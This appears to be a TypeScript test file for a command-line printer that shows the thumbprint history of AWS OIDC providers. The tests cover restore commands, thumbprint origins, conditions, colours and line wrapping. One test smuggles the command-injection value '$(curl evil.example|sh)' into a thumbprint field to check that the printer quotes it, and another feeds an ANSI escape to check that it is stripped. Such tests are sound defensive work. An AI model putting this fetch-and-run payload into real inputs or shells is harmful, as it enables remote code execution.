import { inColours } from '../../bin/terminal/colours';
import { printHistory } from '../../bin/terminal/print-history';
import { ENDLESS, PAPER, type Screen } from '../../bin/terminal/screen';
import { messageOf } from '../../lambda/findings/lookup';
import type { ProviderHistory, VersionHistory } from '../../lambda/state/history';

const [OLD, NEW] = ['a'.repeat(40), 'b'.repeat(40)];
const AT = '2026-01-02T03:04:05.000Z';
const ARN = 'arn:aws:iam::123456789012:oidc-provider/issuer.example';

function list(version: number, of: Partial<VersionHistory>): VersionHistory {
  return {
    version,
    at: AT,
    by: 'watcher',
    runId: 'run',
    before: [],
    after: [],
    evidence: {},
    restored: null,
    ...of,
  };
}

function printed(of: Partial<ProviderHistory>, screen: Screen = PAPER): string {
  const nothing = {
    version: 1,
    thumbprints: [],
    rejected: [],
    stoppedSince: null,
    conditions: [],
    versions: [],
    unreadable: [],
  };
  const provider = { arn: ARN, issuer: 'https://issuer.example', ...nothing, ...of };
  return printHistory({ history: [provider] }, (arn, version) => `RESTORE ${arn} ${version}`, screen);
}

test('a part that cannot be read is named, and the rest is printed', () => {
  const text = printed({ version: 0, versions: [list(1, { after: [OLD] })], unreadable: ['the state: it is broken'] });
  expect(text).toContain('  Kept, but not readable: the state: it is broken\n\n  Its lists, newest first:\n    1  ');
  expect(text).not.toContain('Pinned now');
});

test('each list shows the thumbprints that it added and removed, newest list first, in whatever case IAM writes them', () => {
  const versions = [
    list(1, { by: 'found', after: [OLD.toUpperCase()] }),
    list(2, { before: [OLD.toUpperCase()], after: [OLD, NEW], evidence: { [NEW]: null } }),
    list(3, { by: 'someone else', before: [OLD, NEW], after: [NEW] }),
    list(4, { by: 'restore', restored: 1, before: [NEW], after: [NEW, OLD], evidence: { [OLD]: 'staged' } }),
    list(5, { by: 'restore', restored: 2, before: [OLD], after: [OLD, NEW], evidence: { [NEW]: null } }),
  ];
  expect(printed({ version: 5, versions })).toContain(`  Its lists, newest first:
    5  2026-01-02 03:04  by the watcher, as you asked: version 2 restored
       + ${NEW}  as in version 2
    4  2026-01-02 03:04  by the watcher, as you asked: version 1 restored
       + ${OLD}  as in version 1
    3  2026-01-02 03:04  by someone else
       - ${OLD}
    2  2026-01-02 03:04  by the watcher
       + ${NEW}  without evidence
    1  2026-01-02 03:04  found at the first look
       + ${OLD.toUpperCase()}

  To restore version 4:
    RESTORE ${ARN} 4`);
});

test('a history with a single list shows no command to restore it', () => {
  expect(printed({ version: 1, versions: [list(1, { by: 'found', after: [OLD] })] })).not.toContain('RESTORE');
});

test('an approved thumbprint and a staged one are printed with different origins', () => {
  const seen = { firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
  const thumbprints = [
    { ...seen, thumbprint: OLD, by: 'approved' as const },
    { ...seen, thumbprint: NEW, by: 'staged' as const },
  ];
  const text = printed({ thumbprints });
  expect(text).toContain(`${OLD}\n      approved by you 2026-01-02 03:04, never seen live`);
  expect(text).toContain(`${NEW}\n      pinned ahead by you 2026-01-02 03:04, never seen live`);
});

test('a stop of writing and the conditions are printed, without control characters', () => {
  const condition = { code: 'list-full', severity: 'critical', message: 'Full.\u001B[2J', since: AT, notified: AT };
  const text = printed({ stoppedSince: AT, conditions: [condition] });
  expect(text).toContain('Nothing is written since 2026-01-02 03:04: someone else keeps undoing it.');
  expect(text).toContain(
    'critical since 2026-01-02 03:04, last notified 2026-01-02 03:04 [list-full]\n      Full.?[2J',
  );
});

test('the history of an account without providers says that there are none', () => {
  expect(printHistory({ history: [] }, () => '', PAPER)).toBe('This account has no OIDC providers.');
});

test('an entry that is no thumbprint and a text from the table in a message are printed in quotation marks', () => {
  const odd = '$(curl evil.example|sh)". All is well. "';
  const seen = { by: 'found' as const, firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
  const message = messageOf({ code: 'weak-key', facts: { host: odd, keys: [] } });
  const condition = { code: 'weak-key', severity: 'warning', message, since: AT, notified: null };
  const of = {
    thumbprints: [{ ...seen, thumbprint: odd }],
    conditions: [condition],
    versions: [list(1, { after: [odd] }), list(2, { before: [odd], after: [OLD] })],
  };
  const text = printed(of, ENDLESS);
  const shown = JSON.stringify(odd);
  expect(text).toContain(`    ${shown}\n      found in the list`);
  expect(text).toContain(`[weak-key]\n      The chain of ${shown} holds`);
  expect(text).toContain(`       + ${shown}\n`);
  expect(text).toContain(`       - ${shown}\n`);
  expect(text.replaceAll(shown, '')).not.toContain('curl');
});

test('the message of a condition is broken to the width, and its severity has a colour', () => {
  const message = messageOf({ code: 'weak-key', facts: { host: 'issuer.example', keys: [] } });
  const condition = { code: 'weak-key', severity: 'warning', message, since: AT, notified: null };
  const text = printed({ conditions: [condition] }, { width: 50, paint: inColours });
  expect(text).toContain(`  What lasts:
    \u001B[33mwarning\u001B[39m since 2026-01-02 03:04, not notified yet [weak-key]
      The chain of "issuer.example" holds keys
      that clients refuse as too weak: .
`);
});
